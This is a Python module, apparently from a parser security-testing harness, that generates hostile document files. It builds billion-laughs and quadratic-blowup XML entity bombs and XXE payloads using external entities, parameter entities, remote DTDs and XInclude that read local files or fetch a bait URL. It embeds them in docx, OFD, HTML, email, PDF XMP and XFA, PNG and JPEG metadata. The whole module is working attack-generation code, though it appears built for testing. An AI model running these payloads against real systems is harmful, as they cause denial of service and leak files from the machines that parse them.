"""Entities of XML that grow, and those that fetch."""

from __future__ import annotations

from hostile.attacks.register import Bait, Files, attack, simple
from hostile.make import docx, html, mail, ofd, pdf, pictures, zips
from hostile.make.words import MARK, TEXT

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 12)) + "]>"
)
QUADRATIC = f"<!DOCTYPE x [<!ENTITY a '{'h' * 100_000}'>]>"
REFERENCE = {"laughs": (LAUGHS, "&a11;"), "quadratic": (QUADRATIC, "&a;" * 30_000)}


def _p(inner: str) -> str:
    return f"<w:p><w:r><w:t>{inner}</w:t></w:r></w:p>"


def _docx(kind: str) -> Files:
    files = {}
    for name, (doctype, use) in REFERENCE.items():
        files[f"{name}, body"] = docx.make(docx.body() + _p(use), kind=kind, doctype=doctype)
        for part in ("styles", "numbering", "footnotes", "header1", "comments", "settings"):
            data = docx.part(part, _p(use)).replace(b"<w:", doctype.encode() + b"<w:", 1)
            files[f"{name}, {part}"] = docx.make(kind=kind, **{part: data})
        types = docx.parts(kind=kind)
        for target in ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"):
            changed = types[target].replace(b"?>\n", b"?>\n" + doctype.encode(), 1)
            files[f"{name}, {target}"] = zips.pack({**types, target: changed.replace(b"</", use.encode() + b"</", 1)})
        core = f"<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties'>{use}</cp:coreProperties>"
        files[f"{name}, core"] = zips.pack({**types, "docProps/core.xml": (doctype + core).encode()})
    return files


simple("xml bomb", "docx", lambda: _docx("docx"))
simple("xml bomb", "docm", lambda: _docx("docm"))


def _ofd() -> Files:
    files = {}
    for name, (doctype, use) in REFERENCE.items():
        files[f"{name}, page"] = ofd.make(ofd.page(ofd.texts(["X"]).replace("X", use), doctype=doctype))
        files[f"{name}, document"] = ofd.make(common=use, doctype=doctype)
        files[f"{name}, root"] = ofd.make(root=use, doctype=doctype)
    return files


simple("xml bomb", "ofd", _ofd)
simple(
    "xml bomb",
    "html",
    lambda: (
        {
            name: html.page(html.body() + f"<p>{use}</p>", doctype=doctype.replace("DOCTYPE x", "DOCTYPE html"))
            for name, (doctype, use) in REFERENCE.items()
        }
        | {
            f"xhtml, {name}": f'<?xml version="1.0" encoding="utf-8"?>{doctype.replace("DOCTYPE x", "DOCTYPE html")}<html xmlns="http://www.w3.org/1999/xhtml"><body>{html.body()}<p>{use}</p></body></html>'.encode()
            for name, (doctype, use) in REFERENCE.items()
        }
    ),
)
simple("xml bomb", "txt", lambda: TEXT.encode() + (LAUGHS + "&a11;").encode())
simple("xml bomb", "md", lambda: TEXT.encode() + (LAUGHS + "&a11;").encode())
simple(
    "xml bomb",
    "eml",
    lambda: mail.make([mail.text(html.page(html.body() + "<p>&a11;</p>", doctype=LAUGHS).decode(), "text/html")]),
)
XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>{}</rdf:Description></rdf:RDF></x:xmpmeta>'


def _xmp(use: str, doctype: str) -> bytes:
    return (doctype + XMP.format(use)).encode()


simple(
    "xml bomb",
    "pdf",
    lambda: pdf.build(
        {
            **pdf.objects(),
            1: b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>",
            6: pdf.stream(_xmp("&a11;", LAUGHS), "/Type/Metadata/Subtype/XML"),
        }
    ),
)
simple(
    "xml bomb",
    "png",
    lambda: pictures.png(more=pictures.chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + _xmp("&a11;", LAUGHS))),
)
simple(
    "xml bomb",
    "jpg",
    lambda: pictures.jpeg(more=pictures.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + _xmp("&a11;", LAUGHS))),
)


# --- entities that fetch


def _external(bait: Bait) -> dict[str, tuple[str, str]]:
    parameter = f"<!DOCTYPE x [<!ENTITY % p SYSTEM '{bait.url}'> %p;]>"
    inside = f"<!DOCTYPE x [<!ENTITY % f SYSTEM '{bait.file_url}'><!ENTITY % e \"<!ENTITY a SYSTEM '{bait.file_url}'>\"> %e;]>"
    return {
        "file": (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{bait.file_url}'>]>", "&a;"),
        "path": (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{bait.secret}'>]>", "&a;"),
        "http": (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{bait.url}'>]>", "&a;"),
        "public": (f"<!DOCTYPE x [<!ENTITY a PUBLIC '-//W3C' '{bait.url}'>]>", "&a;"),
        "parameter": (parameter, ""),
        "parameter, file": (inside, "&a;"),
        "dtd": (f"<!DOCTYPE x SYSTEM '{bait.url}'>", ""),
        "dtd, file": (f"<!DOCTYPE x SYSTEM '{bait.file_url}'>", ""),
    }


@attack("external entity", "docx docm")
def _(bait: Bait) -> Files:
    files = {}
    for name, (doctype, use) in _external(bait).items():
        files[name] = docx.make(docx.body() + _p(use), doctype=doctype)
        data = docx.part("footnotes", f'<w:footnote w:id="2">{_p(use)}</w:footnote>').replace(
            b"<w:", doctype.encode() + b"<w:", 1
        )
        files[f"{name}, footnotes"] = docx.make(
            docx.body() + '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', footnotes=data
        )
        types = docx.parts()
        changed = types["[Content_Types].xml"].replace(b"?>\n", b"?>\n" + doctype.encode(), 1)
        files[f"{name}, types"] = zips.pack({**types, "[Content_Types].xml": changed})
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.file_url}" parse="text"/>'
    files["xinclude"] = docx.make(docx.body() + _p(include))
    return files


@attack("external entity", "ofd")
def _(bait: Bait) -> Files:
    return {
        name: ofd.make(ofd.page(ofd.texts() + ofd.texts(["X"]).replace("X", use), doctype=doctype))
        for name, (doctype, use) in _external(bait).items()
    } | {f"{name}, root": ofd.make(doctype=doctype) for name, (doctype, _) in _external(bait).items()}


@attack("external entity", "html")
def _(bait: Bait) -> Files:
    return {
        name: html.page(html.body() + f"<p>{use}</p>", doctype=doctype.replace("DOCTYPE x", "DOCTYPE html"))
        for name, (doctype, use) in _external(bait).items()
    } | {
        f"xhtml, {name}": f'<?xml version="1.0" encoding="utf-8"?>{doctype.replace("DOCTYPE x", "DOCTYPE html")}<html xmlns="http://www.w3.org/1999/xhtml"><body>{html.body()}<p>{use}</p></body></html>'.encode()
        for name, (doctype, use) in _external(bait).items()
    }


@attack("external entity", "md txt")
def _(bait: Bait) -> Files:
    return {name: f"{TEXT}\n{doctype}\n{use}\n".encode() for name, (doctype, use) in _external(bait).items()}


@attack("external entity", "eml")
def _(bait: Bait) -> Files:
    return {
        name: mail.make([mail.text(html.page(html.body() + f"<p>{use}</p>", doctype=doctype).decode(), "text/html")])
        for name, (doctype, use) in _external(bait).items()
    }


@attack("external entity", "zip")
def _(bait: Bait) -> Files:
    doctype, use = _external(bait)["file"]
    return zips.pack({"报告.docx": docx.make(docx.body() + _p(use), doctype=doctype)})


@attack("external entity", "pdf")
def _(bait: Bait) -> Files:
    doctype, use = _external(bait)["file"]
    form = f"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template>{use}{MARK}</template></xdp:xdp>"
    return {
        "xmp": pdf.build(
            {
                **pdf.objects(),
                1: b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>",
                6: pdf.stream(_xmp(use, doctype), "/Type/Metadata/Subtype/XML"),
            }
        ),
        "xfa": pdf.build(
            {
                **pdf.objects(),
                1: b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 6 0 R/Fields[]>>>>",
                6: pdf.stream((doctype + form).encode()),
            }
        ),
    }
